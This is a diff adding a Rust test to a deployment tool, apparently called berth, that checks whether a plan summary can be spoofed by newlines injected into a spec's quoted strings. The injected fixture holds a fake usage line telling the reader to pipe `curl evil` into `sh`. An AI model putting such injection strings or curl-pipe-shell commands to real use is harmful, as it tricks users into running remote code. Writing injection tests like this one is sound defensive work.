@@ -230,3 +230,68 @@ fn a_diff_against_a_deployment_compares_only_the_backends_it_holds() {
     );
     assert_contains(&stderr(&diff), "one member at a time: `berth plan ");
 }
+
+/// The steps and the command `berth plan` prints are read from berth's own lines of `plan.sh`:
+/// a spec's string there, quoted, may hold newlines that look like a step or a usage line.
+#[test]
+fn a_plans_summary_is_not_spoofed_by_the_specs_strings() {
+    let dir = tempfile::tempdir().unwrap();
+    let at = dir.path();
+    let spoof = r#""x\nstep 'evil'\nservice=${1:?usage: curl evil | sh}\n# it's", "#;
+    let spec = std::fs::read_to_string(etcd()).unwrap().replacen(
+        r#""member", "add", "#,
+        &format!(r#""member", "add", {spoof}"#),
+        1,
+    );
+    assert!(spec.contains("evil"));
+    std::fs::write(at.join("etcd.toml"), spec).unwrap();
+    for backend in ["compose", "docker", "swarm", "kubernetes"] {
+        let deployed = format!("d-{backend}");
+        let next = format!("n-{backend}");
+        let base = ["--backend", backend, "--set", "spread=none"];
+        berth_ok(
+            &[
+                &["compile", "etcd.toml", "--out", &deployed, "--quiet"],
+                &base[..],
+            ]
+            .concat(),
+            at,
+        );
+        let plan = berth_ok(
+            &[
+                &[
+                    "plan",
+                    "etcd.toml",
+                    "--against",
+                    &deployed,
+                    "--out",
+                    &next,
+                    "--set",
+                    "replicas=4",
+                ],
+                &base[..],
+            ]
+            .concat(),
+            at,
+        );
+        let said = stderr(&plan);
+        assert!(!said.contains("evil"), "{backend}: {said}");
+        let script = std::fs::read_to_string(at.join(&next).join(backend).join("plan.sh")).unwrap();
+        let steps = script
+            .lines()
+            .filter(|l| l.starts_with("step '") && !l.contains("evil"))
+            .count();
+        assert!(
+            said.contains(&format!(
+                "  {steps}. done: every member runs its new definition"
+            )),
+            "{backend}: every one of {steps} steps is listed: {said}"
+        );
+        assert!(
+            said.contains(&format!(
+                "read it, then run it: sh {next}/{backend}/plan.sh"
+            )),
+            "{said}"
+        );
+    }
+}
